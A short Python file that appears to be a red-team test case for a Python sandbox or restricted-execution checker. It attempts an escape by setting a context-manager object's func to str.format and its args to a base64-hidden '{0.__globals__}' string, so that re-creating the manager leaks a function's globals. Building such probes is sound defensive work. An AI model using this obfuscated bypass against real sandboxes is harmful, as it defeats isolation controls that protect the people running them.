# family: red team, round 59b (contextmanager object's public func/args re-run by _recreate_cm: getattr as cm.func)
import base64
from contextlib import contextmanager


class Mine:
    def _recreate_cm(self):
        return self


@contextmanager
def gen():
    yield 1


def victim():
    return 1


cm = gen()
cm.func = str.format
cm.args = (base64.b64decode("ezAuX19nbG9iYWxzX199").decode(), victim)
print(cm._recreate_cm().gen)
